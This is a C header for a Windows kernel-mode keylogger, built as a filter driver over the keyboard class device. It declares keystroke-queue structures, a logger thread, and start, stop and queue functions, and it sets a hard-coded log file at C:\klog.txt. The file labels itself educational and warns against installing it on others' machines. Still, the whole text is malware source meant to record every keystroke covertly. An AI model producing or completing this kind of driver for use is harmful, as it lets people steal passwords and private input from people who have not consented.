#pragma once
/*
 * kbdlog.h - ring0 keylogger (filter on top of kbdclass)
 *
 * EDUCATIONAL. Don't install this on anyone's machine but your own VM.
 */
#include <ntifs.h>          // ntddk + the Zw* file/wait APIs
#include <ntddkbd.h>

#define KL_TAG          'gLbK'
#define KL_LOG_PATH     L"\\DosDevices\\C:\\klog.txt"
#define KL_KBD_DEVICE   L"\\Device\\KeyboardClass0"

typedef struct _KL_DEVICE_EXTENSION {
    PDEVICE_OBJECT LowerDevice;     // kbdclass device we sit on
} KL_DEVICE_EXTENSION, *PKL_DEVICE_EXTENSION;

// one queued key stroke
typedef struct _KL_KEY {
    LIST_ENTRY Link;
    USHORT     MakeCode;
    USHORT     Flags;
} KL_KEY, *PKL_KEY;

// everything the writer thread needs
typedef struct _KL_LOGGER {
    HANDLE          File;
    PETHREAD        Thread;
    LIST_ENTRY      Queue;
    KSPIN_LOCK      QueueLock;
    KSEMAPHORE      Semaphore;
    volatile LONG   Stop;
    ULONG           Written;
} KL_LOGGER;

extern KL_LOGGER      g_Logger;
extern volatile LONG  g_PendingIrps;
extern PDEVICE_OBJECT g_FilterDevice;

// logger.c
NTSTATUS KlStartLogger(VOID);
VOID     KlStopLogger(VOID);
VOID     KlQueueKey(USHORT MakeCode, USHORT Flags);
